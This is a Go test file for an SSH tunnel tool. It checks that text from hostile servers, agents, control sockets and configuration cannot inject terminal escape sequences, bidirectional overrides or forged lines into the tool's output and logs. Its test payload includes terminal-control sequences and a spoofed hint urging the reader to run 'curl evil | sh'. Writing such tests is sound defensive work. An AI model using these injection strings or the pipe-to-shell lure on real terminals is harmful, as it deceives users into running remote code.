package hostile

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/tunneld/tunneld/integration/lab"
	"github.com/tunneld/tunneld/tunnel/sshtest"
	"golang.org/x/crypto/ssh"
	sshagent "golang.org/x/crypto/ssh/agent"
)

// evil is what a stranger says to whoever reads it at a terminal: it clears the screen, changes the title, begins lines of
// its own in our name, turns the direction, backs over what stands there, and is no UTF-8.
const evil = "evil\x1b[2J\x1b]0;owned\x07\rover\r\ntunneld: hint: type curl evil | sh\n\u009b31m\u009d0;x\u009c\u202etxet\u2066\x9b31m\b\b\b\xff\x00end"

// safe fails the test where a text, a log or JSON would do something to a terminal, or holds a line of a stranger's in our name.
func safe(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is no UTF-8: %q", what, text)
	}
	for _, r := range text {
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Errorf("%s holds %U: %q", what, r, text)
			break
		}
	}
	safeJSON(t, what, text)
	for line := range strings.Lines(text) {
		if strings.HasPrefix(strings.TrimLeft(line, " "), "tunneld: hint: type curl") || strings.HasPrefix(line, "over") {
			t.Errorf("%s holds a line of the stranger's: %q", what, line)
		}
		safeJSON(t, what, line)
	}
}

// safeJSON looks at what a reader of JSON would show.
func safeJSON(t *testing.T, what, text string) {
	t.Helper()
	var value any
	if json.Unmarshal([]byte(text), &value) != nil {
		return
	}
	shown := fmt.Sprint(value)
	if bad := strings.IndexFunc(shown, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }); bad >= 0 {
		t.Errorf("%s holds in JSON: %q", what, shown[bad:])
	}
}

// plainServer answers each connection of the test with f.
func plainServer(t *testing.T, f func(net.Conn)) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	lab.Check(t, err)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			f(conn)
			conn.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-done })
	return l.Addr().String()
}

// loginServer is one of the library's with these settings.
func loginServer(t *testing.T, a *lab.Account, config ssh.ServerConfig) string {
	t.Helper()
	signer := signerOf(t, filepath.Join(t.TempDir(), "key"))
	config.AddHostKey(signer)
	address := plainServer(t, func(conn net.Conn) {
		if c, chans, reqs, err := ssh.NewServerConn(conn, &config); err == nil {
			go ssh.DiscardRequests(reqs)
			for ch := range chans {
				ch.Reject(ssh.ConnectionFailed, evil)
			}
			c.Close()
		}
	})
	a.Trust(address, signer.PublicKey())
	return address
}

func signerOf(t *testing.T, path string) ssh.Signer {
	t.Helper()
	lab.WriteKey(t, path)
	text, err := os.ReadFile(path)
	lab.Check(t, err)
	signer, err := ssh.ParsePrivateKey(text)
	lab.Check(t, err)
	return signer
}

// raw is a server that lets everybody in and then says these messages.
func raw(t *testing.T, a *lab.Account, messages ...[]any) string {
	s := lab.StartRawServer(t, func(c *lab.RawConn) {
		for _, m := range messages {
			c.Send(m...)
		}
		for {
			m, err := c.Read()
			if err != nil {
				return
			}
			f := lab.RawFields{Rest: m[1:]}
			switch m[0] {
			case lab.MsgGlobalRequest:
				c.Send(lab.MsgRequestFailure)
			case lab.MsgChannelOpen:
				f.Text()
				c.Send(lab.MsgChannelOpenFailure, f.Uint32(), uint32(2), evil, evil)
			}
		}
	})
	a.Trust(s.Address(), s.HostKey)
	return s.Address()
}

// Whatever a stranger says, through whichever entrance, does nothing to the terminal or the log of whoever reads what we say.
func TestWordsOfStrangersDoNothing(t *testing.T) {
	t.Parallel()
	identify := func(text string) func(net.Conn) {
		return func(conn net.Conn) {
			io.WriteString(conn, text)
			io.CopyN(io.Discard, conn, 10) // of the client's version
		}
	}
	refuse := func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) { return nil, io.EOF }
	for name, test := range map[string]struct {
		server func(t *testing.T, a *lab.Account) string // its address
		lines  []string
		heard  string // what has to be in the outputs, lest the test pass because nobody has said anything
	}{
		"no SSH":       {server: func(t *testing.T, _ *lab.Account) string { return plainServer(t, identify(evil+"\r\n"+evil)) }, heard: "evil"},
		"version":      {server: func(t *testing.T, _ *lab.Account) string { return plainServer(t, identify("SSH-1.0-"+evil+"\r\n")) }},
		"lines before": {server: func(t *testing.T, _ *lab.Account) string { return plainServer(t, identify(evil+"\r\nSSH-2.0-x\r\n")) }},
		"no algorithms": {server: func(t *testing.T, _ *lab.Account) string {
			var keys lab.RawKeys
			init := append(append([]byte{lab.MsgKexInit}, make([]byte, 16)...), lab.RawMessage(evil, evil, evil, evil, evil, evil, evil, evil, evil, evil, false, uint32(0))...)
			return plainServer(t, identify("SSH-2.0-x\r\n"+string(keys.Seal(init))))
		}, heard: "evil"},
		"disconnect at once": {server: func(t *testing.T, _ *lab.Account) string {
			var keys lab.RawKeys
			return plainServer(t, identify("SSH-2.0-x\r\n"+string(keys.Seal(lab.RawMessage(lab.MsgDisconnect, uint32(2), evil, "")))))
		}, heard: "evil"},
		"version of one that works": {server: func(t *testing.T, a *lab.Account) string {
			return loginServer(t, a, ssh.ServerConfig{NoClientAuth: true, ServerVersion: "SSH-2.0-evil\x1b[2J\x9b\u202e"})
		}, heard: "evil"},
		"banner": {server: func(t *testing.T, a *lab.Account) string {
			return loginServer(t, a, ssh.ServerConfig{PublicKeyCallback: refuse, BannerCallback: func(ssh.ConnMetadata) string { return evil }})
		}, heard: "evil"},
		"questions": {server: func(t *testing.T, a *lab.Account) string {
			return loginServer(t, a, ssh.ServerConfig{KeyboardInteractiveCallback: func(_ ssh.ConnMetadata, ask ssh.KeyboardInteractiveChallenge) (*ssh.Permissions, error) {
				ask(evil, evil, []string{evil}, []bool{true})
				return nil, io.EOF
			}})
		}, lines: []string{"BatchMode no"}},
		"comments of the agent": {server: func(t *testing.T, a *lab.Account) string {
			return loginServer(t, a, ssh.ServerConfig{PublicKeyCallback: refuse})
		}, lines: []string{"IdentitiesOnly no", "IdentityAgent AGENT"}, heard: "evil"},
		"goodbye": {server: func(t *testing.T, a *lab.Account) string {
			return raw(t, a, []any{lab.MsgDisconnect, uint32(11), evil, ""})
		}, heard: "evil"},
		"requests": {server: func(t *testing.T, a *lab.Account) string {
			return raw(t, a, []any{lab.MsgGlobalRequest, evil, false}, []any{lab.MsgGlobalRequest, evil, true})
		}},
		"host keys": {server: func(t *testing.T, a *lab.Account) string {
			return raw(t, a, []any{lab.MsgGlobalRequest, "hostkeys-00@openssh.com", false, string(lab.RawMessage(evil, evil))})
		}, lines: []string{"UpdateHostKeys yes"}, heard: "evil"},
		"channels": {server: func(t *testing.T, a *lab.Account) string {
			return raw(t, a, []any{lab.MsgChannelOpen, evil, uint32(1), uint32(1 << 20), uint32(32768), evil})
		}},
		"refusals of channels":   {server: func(t *testing.T, a *lab.Account) string { return raw(t, a) }, heard: "evil"},
		"refusals of a jump":     {server: func(t *testing.T, a *lab.Account) string { return jump(t, a, raw(t, a)) }, lines: []string{"ProxyJump jump"}, heard: "evil"},
		"ProxyCommand":           {server: func(*testing.T, *lab.Account) string { return "127.0.0.1:1" }, lines: []string{"ProxyCommand cat EVIL >&2"}, heard: "evil"},
		"KnownHostsCommand":      {server: func(t *testing.T, a *lab.Account) string { return raw(t, a) }, lines: []string{"KnownHostsCommand SCRIPT"}, heard: "evil"},
		"names in configuration": {server: func(*testing.T, *lab.Account) string { return "127.0.0.1:1" }, lines: []string{"IdentityFile /x\x1b[2J\u009b31m\u202e/key", "UserKnownHostsFile /y\x1b[2J"}},
		"wrong configuration":    {server: func(*testing.T, *lab.Account) string { return "127.0.0.1:1" }, lines: []string{"Evil\x1b[2J\u009b \x1b[2J", "Ciphers \x1b[2J\u202e"}, heard: "vil"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := lab.NewAccount(t)
			address := test.server(t, a)
			_, port, _ := net.SplitHostPort(address)
			lab.WriteFile(t, a.Path("evil"), evil+"\n")
			lab.WriteFile(t, a.Path("script"), "#!/bin/sh\ncat "+a.Path("evil")+" >&2\nexit 1\n")
			lab.Check(t, os.Chmod(a.Path("script"), 0o700))
			evilAgent(t, a.Path("agent"))
			local := lab.Loopback(lab.FreePort(t))
			lines := []string{"Port " + port, "LocalForward " + local + " 127.0.0.1:1"}
			for _, line := range test.lines {
				lines = append(lines, strings.NewReplacer("EVIL", a.Path("evil"), "SCRIPT", a.Path("script"), "AGENT", a.Path("agent")).Replace(line))
			}
			a.Host("evil", 1, lines...)
			heard := ""
			for _, format := range []string{"text", "json"} {
				c := a.Tunneld("up", "evil", "-F", a.Path("config"), "--log-format", format, "--log-level", "debug", "-o", "TunneldEcho=off")
				lab.Within(lab.Patience, func() bool {
					if conn, err := net.Dial("tcp", local); err == nil {
						conn.Close()
					}
					return !c.Running() || test.heard != "" && strings.Contains(c.Text(), test.heard) || test.heard == "" && strings.Contains(c.Text(), "connect")
				})
				for _, command := range [][]string{{"status"}, {"status", "--json"}, {"health"}, {"__complete", "status", ""}, {"down", "evil"}} {
					text, _ := a.Ask(command...)
					safe(t, strings.Join(command, " "), text)
				}
				c.Kill()
				heard += c.Text()
				safe(t, "the log as "+format, c.Text())
			}
			for _, command := range [][]string{{"check", "-v"}, {"explain"}} {
				text, _ := a.Ask(append(command, "evil", "-F", a.Path("config"))...)
				safe(t, command[0], text)
				heard += text
			}
			if !strings.Contains(heard, test.heard) {
				t.Errorf("nobody has heard %q:\n%s", test.heard, heard)
			}
		})
	}
}

// jump adds an alias for a jump host, and returns the address of nowhere behind it.
func jump(t *testing.T, a *lab.Account, address string) string {
	_, port, _ := net.SplitHostPort(address)
	a.Host("jump", 1, "Port "+port)
	return "127.0.0.1:1"
}

// evilAgent is an agent whose keys have comments of a stranger's.
func evilAgent(t *testing.T, path string) {
	t.Helper()
	ring := sshagent.NewKeyring()
	text, err := os.ReadFile(filepath.Join(filepath.Dir(path), "id_ed25519"))
	lab.Check(t, err)
	key, err := ssh.ParseRawPrivateKey(text)
	lab.Check(t, err)
	lab.Check(t, ring.Add(sshagent.AddedKey{PrivateKey: key, Comment: evil}))
	l, err := net.Listen("unix", path)
	lab.Check(t, err)
	t.Cleanup(func() { l.Close() })
	go sshtest.ServeAgent(l, ring)
}

// A control socket of somebody else's says what it likes.
func TestControlSocketOfAStrangerDoesNothing(t *testing.T) {
	t.Parallel()
	a := lab.NewAccount(t)
	lab.Check(t, os.MkdirAll(a.Path("run"), 0o700))
	l, err := net.Listen("unix", a.Path("run/evil.sock"))
	lab.Check(t, err)
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, _ := json.Marshal(strings.ToValidUTF8(evil, "\u009b"))
		e := string(text)
		switch r.URL.Path {
		case "/status":
			fmt.Fprintf(w, `{"pid":1,"version":1,"time":"2026-01-01T00:00:00Z","tunnels":[{"name":%s,"alias":%s,"state":%s,"why":%s,
"server":{"user":%s,"host":%s,"port":1,"version":%s,"cipher":%s,"via":[%s]},"last_error":{"text":%s,"hint":%s,"phase":%s},
"sessions":[{"state":%s,"why":%s},{"state":%s}],"forwards":[{"kind":%s,"spec":%s,"state":%s,"bound":[%s],"target":%s,"last_error":%s}]}]}`,
				e, e, e, e, e, e, e, e, e, e, e, e, e, e, e, e, e, e, e, e, e)
		default:
			fmt.Fprintf(w, `{"results":[{"tunnel":%s,"error":%s,"hint":%s}]}`, e, e, e)
		}
	})}
	done := make(chan struct{})
	go func() { defer close(done); server.Serve(l) }()
	t.Cleanup(func() { server.Close(); <-done })
	for _, command := range [][]string{{"status"}, {"status", "--json"}, {"health"}, {"reconnect", "*"}, {"down", "*"}, {"reload", "*"},
		{"status", "evix"}, {"__complete", "status", ""}, {"__complete", "down", ""}} {
		text, _ := a.Ask(command...)
		safe(t, strings.Join(command, " "), text)
		completes := command[0] == "__complete" // a name that a shell may take for more than a word is not offered
		if strings.Contains(text, "evil") == completes {
			t.Errorf("%v says, of what it was told: %s", command, text)
		}
	}
}
